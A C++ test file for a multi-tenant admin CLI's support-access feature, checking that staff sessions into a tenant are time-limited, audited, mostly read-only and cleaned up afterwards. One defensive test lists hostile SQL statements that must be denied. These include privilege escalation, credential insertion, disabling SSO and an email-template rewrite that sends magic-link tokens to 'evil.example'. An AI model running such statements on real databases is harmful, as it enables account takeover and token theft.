// tenant connect and disconnect: who looks into a tenant does so for a while, with a reason, and no longer.
#include <signal.h>

#include <filesystem>

#include "tests/support/catch.hpp"
#include "tests/support/mail_server.hpp"
#include "tests/support/platform.hpp"
#include "tests/support/running.hpp"

using acctl::test::Around;
using acctl::test::eventually;
using acctl::test::file_text;
using acctl::test::keys_of;
using acctl::test::Result;
using acctl::test::Running;
using acctl::test::set_mail;
using acctl::test::Start;
using acctl::test::TestPlatform;
namespace fs = std::filesystem;

namespace {

using Words = std::vector<std::string>;

void check(const Result& result, int status, const std::string& part = "") {
  INFO(result.out << result.err);
  CHECK(result.status == status);
  CHECK_THAT(result.out + result.err, Catch::Contains(part));
}

Words connect(const Words& more = {}) {
  Words words = {"tenant", "connect", "acme", "--reason", "case 4711"};
  words.insert(words.end(), more.begin(), more.end());
  return words;
}

std::string roles(const TestPlatform& acctl) {
  return acctl.control("select count(*) from pg_roles where rolname like 'acctl\\_visit\\_%'");
}

std::string visits(const TestPlatform& acctl) {
  return acctl.control(
      "select string_agg(t.slug || ' ' || coalesce(c.ended_by, 'open'), ', ' order by c.id) from acctl.connections c "
      "join acctl.tenants t on t.id = c.tenant_id");
}

std::string trail(const TestPlatform& acctl) {
  return acctl.control(
      "select string_agg(concat_ws(' ', action, outcome, reason, after ->> 'write', after ->> 'ended_by'), ', ' order "
      "by id) from acctl.audit where action like 'tenant.%connect'");
}

Start in_background(const TestPlatform& acctl, const Words& more = {}) {
  Words words = connect(more);
  words.insert(words.begin(), acctl::test::program_path());
  return {.words = words, .environment = acctl.acctl.environment, .input = "select pg_sleep(60);\n"};
}

bool is_connected(const TestPlatform& acctl) {
  return eventually([&] {
    return acctl.control(
               "select count(*) from pg_stat_activity where usename like 'acctl\\_visit\\_%' and query like "
               "'%sleep%'") == "1";
  });
}

}  // namespace

TEST_CASE("who connects reads what the application reads, and nothing secret, and cannot write") {
  // Passwords are asked for: that of the visit is a good one.
  const TestPlatform acctl({.hba = "local all acctl trust\nlocal all postgres trust\nlocal all all scram-sha-256\n"});
  acctl.create("acme");
  const Result result = acctl(connect(),
                              "\\set ON_ERROR_STOP off\n"
                              "select 'mail ' || email from users;\n"
                              "select token_hash from invitations;\n"
                              "select count(id) || ' invitation' from invitations;\n"
                              "select tenant_id from acctl.tenant;\n"
                              "set default_transaction_read_only = off;\n"
                              "insert into contacts (email) values ('x@example.com');\n"
                              "delete from users;\n");
  check(result, 0, "mail ana@acme.example");
  CHECK_THAT(result.out, Catch::Contains("1 invitation"));
  for (const char* denied : {"table invitations", "schema acctl", "table contacts", "table users"}) {
    CHECK_THAT(result.err, Catch::Contains(std::string("permission denied for ") + denied));
  }
  CHECK_THAT(result.err, Catch::Contains("tenant acme, read only, until 20"));
  CHECK(roles(acctl) == "0");
  CHECK(visits(acctl) == "acme closed");
  CHECK(trail(acctl) == "tenant.connect done case 4711 false, tenant.disconnect done case 4711 closed");
  CHECK(acctl.in("acme", "select count(*) from app.contacts") == "0");
  check(acctl({"tenant", "doctor"}), 0);
  check(acctl({"audit", "verify"}), 0);
}

TEST_CASE("writing is a wish of its own, bound by the application's rules") {
  const TestPlatform acctl;
  acctl.create("acme");
  const std::string before = acctl.world_but_audit();
  check(acctl(connect({"--write"}), "select 1;\n"), 10, "Do you want to open tenant acme");
  CHECK(acctl.world_but_audit() == before);
  const Result result =
      acctl(connect({"--write", "--yes"}),
            "insert into contacts (email) values ('x@example.com');\n"
            "update users set name = 'Ana B.';\n"
            "update tickets set subject = 'x';\n"
            "insert into statuses (key, name, applies_to, category) values ('x', 'X', 'ticket', 'no');\n");
  check(result, 1, "statuses_category_check");
  CHECK(acctl.in("acme", "select email from app.contacts") == "x@example.com");
  CHECK(
      trail(acctl) ==
      "tenant.connect refused case 4711, tenant.connect done case 4711 true, tenant.disconnect done case 4711 closed");
  CHECK(roles(acctl) == "0");
  // What psql ends with is what acctl ends with.
  check(acctl(connect({"--write", "--yes"}), "\\set ON_ERROR_STOP on\nselect nothing;\n"), 1,
        "psql ended with status 3");
  CHECK(roles(acctl) == "0");
}

TEST_CASE("who writes on a visit lets nobody in", "[promise 16]") {
  const TestPlatform acctl;
  acctl.create("acme");
  check(acctl({"api-key", "create", "organization", "-t", "acme", "--name", "ci", "--permission", "tickets.view"}), 0);
  const std::string everything = acctl.in("acme", "select count(*) from app.users") +
                                 acctl.in("acme", "select string_agg(key, ',' order by id) from app.roles");
  for (const std::string statement : {
           "insert into users (email) values ('eve@example.com')",
           "update users set email = 'eve@example.com'",
           "update users set status = 'active'",
           "delete from users",
           "insert into roles (key, name) values ('own', 'Own')",
           "delete from role_permissions",
           "insert into user_permissions select id, (select id from permissions where key = '*') from users",
           "delete from user_roles",
           "update role_templates set name = 'X'",
           "delete from api_keys",
           "update sessions set expires_at = 'infinity'",
           "insert into credentials (user_id, password_hash) select id, 'x' from users",
           "update invitations set expires_at = 'infinity'",
           "select token_hash from invitations",
           "insert into magic_links select",
           "delete from outbox",
           "delete from identity_providers",
           "update settings set value = 'false' where key = 'sso.enforced'",
           "update email_templates set body_html = '<img src=\"https://evil.example/{{link}}\">'",
           "update contacts set email = 'eve@example.com'",
           "select * from acctl.tenant",
       }) {
    CAPTURE(statement);
    check(acctl(connect({"--write", "--yes"}), statement + ";\n"), 1, "permission denied for");
  }
  CHECK(acctl.in("acme", "select count(*) from app.users") +
            acctl.in("acme", "select string_agg(key, ',' order by id) from app.roles") ==
        everything);
  CHECK(roles(acctl) == "0");
}

TEST_CASE("what a visitor comes to own does not outlive the visit", "[promise 1]") {
  const TestPlatform acctl;
  acctl.create("acme");
  for (const Words& more : {Words{}, Words{"--write", "--yes"}}) {
    // From PostgreSQL 16 on a session that only reads makes none.
    const bool reads = more.empty() && acctl::test::test_version() >= 16;
    check(acctl(connect(more), "select lo_from_bytea(0, 'x');\n"), reads ? 1 : 0);
    CHECK(roles(acctl) == "0");
    CHECK(acctl.in("acme", "select count(*) from pg_largeobject_metadata") == "0");
  }
}

TEST_CASE("statements of a file stop at the first that fails, and acctl says so") {
  const TestPlatform acctl;
  acctl.create("acme");
  const std::string insert = "insert into contacts (email) values ('";
  const Result result = acctl(connect({"--write", "--yes"}),
                              insert + "first@example.com');\nselect nosuch;\n" + insert + "last@example.com');\n");
  check(result, 1, "a statement failed, and those after it were not run (psql ended with status 3)");
  CHECK_THAT(result.err, Catch::Contains("What ran before it stays"));
  CHECK(acctl.in("acme", "select string_agg(email, ', ') from app.contacts") == "first@example.com");
  check(acctl(connect(), "select nosuch;"), 1, "a statement failed");
  CHECK(visits(acctl) == "acme closed, acme closed");
  // A file that means to go on says so.
  check(acctl(connect(), "\\set ON_ERROR_STOP off\nselect nosuch;\nselect 'all' || ' of it';\n"), 0, "all of it");
}

TEST_CASE("without a reason, a tenant or a sensible time nobody connects") {
  const TestPlatform acctl;
  acctl.create("acme");
  acctl.create("held");
  REQUIRE(acctl({"tenant", "delete", "held", "--confirm", "held"}).status == 0);
  const std::string before = acctl.world_but_audit();
  check(acctl({"tenant", "connect", "acme"}), 3, "a reason is required");
  check(acctl({"tenant", "connect", "acme", "--reason", " "}), 3, "reason");
  check(acctl({"tenant", "connect", "--reason", "case 1"}), 3, "SLUG is missing");
  check(acctl({"tenant", "connect", "nosuch", "--reason", "case 1"}), 3, "there is no tenant 'nosuch'");
  check(acctl({"tenant", "connect", "held", "--reason", "case 1"}), 7, "is deprovisioning and cannot be connected to");
  check(acctl(connect({"--for", "25h"})), 3, "25h is not between 1s and 24h");
  check(acctl(connect({"--for", "0"})), 3, "0 is not between 1s and 24h");
  check(acctl(connect({"--all"})), 3, "takes one tenant");
  check(acctl(connect({"--dry-run"})), 0, "could be connected to; nothing was done");
  CHECK(acctl.world_but_audit() == before);
  CHECK(visits(acctl) == "");
}

TEST_CASE("a session ends when its time is over") {
  const TestPlatform acctl;
  acctl.create("acme");
  Running session(in_background(acctl, {"--for", "2s"}));
  REQUIRE(is_connected(acctl));
  const Result result = session.finish();
  check(result, 9, "the time of the session with tenant acme is over");
  CHECK(visits(acctl) == "acme expired");
  CHECK(roles(acctl) == "0");
}

TEST_CASE("tenant disconnect lists sessions and ends them, with one entry each") {
  const TestPlatform acctl;
  acctl.create("acme");
  acctl.create("bert");
  check(acctl({"tenant", "disconnect", "acme", "--yes"}), 0, "no session of staff is open");
  check(acctl({"tenant", "disconnect"}), 3, "no tenant is selected");
  Running session(in_background(acctl));
  REQUIRE(is_connected(acctl));
  const auto open = acctl.json({"tenant", "disconnect", "--all", "--dry-run"});
  REQUIRE(open.size() == 1);
  CHECK(keys_of(open[0]) == "tenant actor role write reason run opened_at until outcome error");
  CHECK(open[0]["reason"] == "case 4711");
  CHECK(open[0]["outcome"] == "open");
  check(acctl({"tenant", "disconnect", "acme"}), 10, "Do you want to end 1 session of staff?");
  CHECK(acctl.json({"tenant", "disconnect", "bert", "--yes"}).empty());
  CHECK(roles(acctl) == "1");
  CHECK(acctl.json({"tenant", "disconnect", "acme", "--yes"})[0]["outcome"] == "disconnected");
  check(session.finish(), 9, "another run of acctl has ended the session with tenant acme");
  CHECK(roles(acctl) == "0");
  CHECK(visits(acctl) == "acme disconnected");
  CHECK(acctl.control("select count(*) from acctl.audit where action = 'tenant.disconnect' and outcome = 'done'") ==
        "1");
}

// psql that waits for its input does not notice, and ends well when the input ends.
TEST_CASE("a session that another run has ended does not end well") {
  const TestPlatform acctl;
  acctl.create("acme");
  Start start = in_background(acctl);
  start.input = "select 'waiting';\n";
  Running session(start);
  REQUIRE(eventually([&] {
    return acctl.control(
               "select count(*) from pg_stat_activity where usename like 'acctl\\_visit\\_%' and state = 'idle' and "
               "query like '%waiting%'") == "1";
  }));
  check(acctl({"tenant", "disconnect", "acme", "--yes"}), 0);
  const Result result = session.finish();
  check(result, 9, "another run of acctl has ended the session with tenant acme");
  CHECK_THAT(result.err, Catch::Contains("acctl audit list -t acme"));
  CHECK(visits(acctl) == "acme disconnected");
}

TEST_CASE("acctl that is killed takes its psql with it, and what it leaves is removed") {
  const TestPlatform acctl;
  acctl.create("acme");
  for (const std::string by : {"disconnect", "purge"}) {
    Running session(in_background(acctl));
    REQUIRE(is_connected(acctl));
    session.send(SIGKILL);
    CHECK(session.finish().status == 137);
    CHECK(eventually([&] {
      return acctl.control("select count(*) from pg_stat_activity where usename like 'acctl\\_visit\\_%'") == "0";
    }));
    CHECK(roles(acctl) == "1");
    if (by == "disconnect") {
      check(acctl({"tenant", "disconnect", "acme", "--yes"}), 0);
    } else {
      check(acctl({"tenant", "purge", "--yes"}), 0, "nothing was removed");
      acctl.control(
          "update acctl.connections set opened_at = now() - interval '2 s', expires_at = now() - interval '1 s' "
          "where ended_at is null");
      check(acctl({"tenant", "doctor"}), 0, "1 leftover");
      check(acctl({"tenant", "purge", "--yes"}), 0, "1 leftover removed");
    }
    CHECK(roles(acctl) == "0");
  }
  CHECK(visits(acctl) == "acme disconnected, acme expired");
}

TEST_CASE("psql is given no password in its arguments, and none of ours in its environment") {
  TestPlatform acctl;
  acctl.create("acme");
  acctl.acctl.environment["PGPASSWORD"] = "c0ntrolCanary";
  Running session(in_background(acctl));
  REQUIRE(is_connected(acctl));
  const std::string process = "/proc/" + std::to_string(session.pid());
  const std::string child = file_text(process + "/task/" + std::to_string(session.pid()) + "/children");
  const std::string psql = "/proc/" + child.substr(0, child.find(' '));
  CHECK_THAT(file_text(psql + "/cmdline"),
             Catch::Contains("passfile='/proc/self/fd/") && !Catch::Contains("password="));
  const std::string environment = file_text(psql + "/environ");
  CHECK_THAT(environment, Catch::Contains("PGSSLMODE=") && !Catch::Contains("c0ntrolCanary"));
  CHECK_THAT(environment, !Catch::Contains("PGPASSWORD") && !Catch::Contains("ACCTL_"));
  session.send(SIGTERM);
  CHECK(session.finish().status == 143);
}

TEST_CASE("SIGTERM ends the session and drops its role") {
  const TestPlatform acctl;
  acctl.create("acme");
  Running session(in_background(acctl));
  REQUIRE(is_connected(acctl));
  session.send(SIGTERM);
  CHECK(session.finish().status == 143);
  CHECK(roles(acctl) == "0");
  CHECK(visits(acctl) == "acme closed");
}

TEST_CASE("a tenant that is deleted ends the sessions of staff in it") {
  const TestPlatform acctl;
  acctl.create("acme");
  Running session(in_background(acctl));
  REQUIRE(is_connected(acctl));
  check(acctl({"tenant", "delete", "acme", "--confirm", "acme"}), 0);
  check(session.finish(), 9, "another run of acctl has ended the session with tenant acme");
  CHECK(roles(acctl) == "0");
  CHECK(visits(acctl) == "acme disconnected");
}

TEST_CASE("nobody connects where administrators want to be told and none of them can be", "[promise 13]") {
  const TestPlatform acctl;
  acctl.create("acme");
  const std::string folder = acctl.folder.path() + "/mail";
  fs::create_directory(folder);
  set_mail(acctl, "transport: maildir, folder: " + folder + ", from: desk@acctl.example");
  acctl.in("acme", "insert into app.settings (key, value) values ('support.announce_access', 'true')");
  const auto refused = [&](const Words& more = {}) {
    const Result result = acctl(connect(more), "select 'inside';\n");
    check(result, 5, "and none of them is active");
    CHECK_THAT(result.err, Catch::Contains("'acctl user resend'"));
    CHECK_THAT(result.out, !Catch::Contains("inside"));
  };
  refused();  // the only administrator is invited
  refused({"--write", "--yes"});
  refused({"--dry-run"});
  // Somebody active who is no administrator is not told, and does not count.
  acctl.in("acme", "insert into app.users (email, name, status) values ('ben@acme.example', 'Ben', 'active')");
  refused();
  CHECK(visits(acctl) == "");
  CHECK(roles(acctl) == "0");
  CHECK(acctl.control("select count(*) from acctl.audit where action = 'tenant.connect' and outcome = 'done'") == "0");
  acctl.in("acme", "update app.settings set value = 'false' where key = 'support.announce_access'");
  check(acctl(connect(), "select 'inside';\n"), 0, "inside");
}

TEST_CASE("administrators who want to be told are told before anybody connects") {
  const TestPlatform acctl;
  acctl.create("acme");
  acctl.in("acme", "update app.users set status = 'active'");
  acctl.in("acme", "insert into app.settings (key, value) values ('support.announce_access', 'true')");
  const std::string folder = acctl.folder.path() + "/mail";
  fs::create_directory(folder);
  const auto messages = [&] {
    std::string text;
    std::error_code none;
    for (const auto& entry : fs::directory_iterator(folder + "/new", none)) text += file_text(entry.path().string());
    return text;
  };
  const std::string before = acctl.world_but_audit();
  acctl.control("update acctl.settings set value = '{}' where key = 'mail'");
  check(acctl(connect(), "select 1;\n"), 1, "no mail transport is configured");
  CHECK(visits(acctl) == "");
  set_mail(acctl, "transport: maildir, folder: " + folder + ", from: desk@acctl.example");
  check(acctl(connect({"--no-mail"}), "select 1;\n"), 5, "wants access to be announced");
  CHECK(messages() == "");
  check(acctl(connect(), "select 1;\n"), 0, "announced to 1 administrator");
  CHECK_THAT(messages(), Catch::Contains("To: ana@acme.example") && Catch::Contains("case 4711") &&
                             Catch::Contains("which only reads"));
  CHECK(acctl.control("select after ->> 'announced' from acctl.audit where action = 'tenant.connect' and outcome = "
                      "'done'") == "1");
}
